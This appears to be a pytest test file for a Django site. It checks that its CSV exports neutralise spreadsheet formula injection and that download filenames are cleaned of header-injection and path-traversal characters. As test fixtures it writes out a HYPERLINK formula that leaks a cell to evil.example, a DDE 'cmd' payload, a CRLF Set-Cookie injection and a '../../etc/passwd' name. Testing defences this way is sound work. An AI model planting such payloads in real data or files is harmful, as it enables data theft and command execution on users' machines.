"""Every CSV the site writes (study page export, API ?format=csv, admin action) comes from one
writer, and a cell a spreadsheet would run as a formula is neutralised in all of them."""

import csv
import io

import pytest
from django.urls import reverse

from core.csvfile import safe_cell
from evidence.models import Study
from references.models import Reference

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


@pytest.fixture
def hostile_study():
    study = Study.objects.published().get(key="ref01-rim-trial")
    Study.objects.filter(pk=study.pk).update(
        label=FORMULA,
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        comparator="-2+3",
        follow_up="+1",
        sample_size=12,
    )
    Reference.objects.filter(pk=study.reference_id).update(title="\t=1+1", journal="\r=cmd")
    return study


def test_the_page_export_neutralises_formulas(client, hostile_study):
    response = client.get("/studies/export.csv", {"therapy": "rituximab"})
    row = next(r for r in rows(response) if r["id"] == str(hostile_study.pk))
    assert row["label"] == "'" + FORMULA
    assert row["summary"].startswith("'@SUM")
    assert row["comparator"] == "'-2+3"
    assert row["follow_up"] == "'+1"
    assert row["title"] == "'\t=1+1" and row["journal"] == "'\r=cmd"
    assert row["sample_size"] == "12"


def test_the_api_study_csv_neutralises_formulas(client, hostile_study):
    response = client.get("/api/v1/studies/", {"format": "csv", "therapy": "rituximab"})
    row = next(r for r in rows(response) if r["id"] == str(hostile_study.pk))
    assert row["label"] == "'" + FORMULA and row["comparator"] == "'-2+3"


def test_the_generic_api_csv_neutralises_formulas(client):
    Reference.objects.filter(number=1).update(title=FORMULA, journal="@evil")
    response = client.get("/api/v1/references/", {"format": "csv"})
    row = next(r for r in rows(response) if r["number"] == "1")
    assert row["title"] == "'" + FORMULA and row["journal"] == "'@evil"


def test_the_admin_action_neutralises_formulas(client, curator, hostile_study):
    response = client.post(
        reverse("admin:evidence_study_changelist"),
        {"action": "export_csv", "_selected_action": [hostile_study.pk]},
    )
    [row] = rows(response)
    assert row["label"] == "'" + FORMULA and row["comparator"] == "'-2+3"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("-3", "-3"),
        ("-0.25", "-0.25"),
        (-7, "-7"),  # plain negative numbers stay numbers
        ("-3e2", "'-3e2"),
        ("-A1", "'-A1"),
        ("- 3", "'- 3"),
        ("-3\n=1", "'-3\n=1"),
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (True, "yes"),
        (["=a", "b"], "'=a; b"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_writer_writes_every_cell_as_safe_cell_gives_it():
    """The writer passes plain text and integers through without safe_cell (a fast path):
    each line must still read back as safe_cell's text of each cell."""
    from core.csvfile import ROWS_PER_PIECE, csv_text

    cells = [-7, 0, 12, "-0.25", "=1", "@x", "a=1", "", None, True, False, 1.5, ["=a", "b"]]
    rows = [cells] * (ROWS_PER_PIECE + 3)  # more than one piece
    read = list(csv.reader(io.StringIO(csv_text(["h"] * len(cells), rows))))
    assert read[0] == ["h"] * len(cells)
    assert read[1:] == [[safe_cell(value) for value in cells]] * len(rows)


def test_a_download_name_from_data_is_sanitised(client):
    """A key stored before keys were validated names the citation file: no quote, semicolon
    or line break of it reaches the header."""
    Reference.objects.filter(number=1).update(bibtex_key='x";\r\nSet-Cookie: a=b')
    response = client.get("/references/1/cite/bibtex/")
    assert response["Content-Disposition"] == 'attachment; filename="x-Set-Cookie-a-b.bib"'


def test_a_non_ascii_download_name_gets_rfc_6266_filename_star():
    from core.http import attachment_header

    assert attachment_header("Müller.bib") == (
        "attachment; filename=\"Muller.bib\"; filename*=UTF-8''M%C3%BCller.bib"
    )
    assert attachment_header("../../etc/passwd") == 'attachment; filename="etc-passwd"'
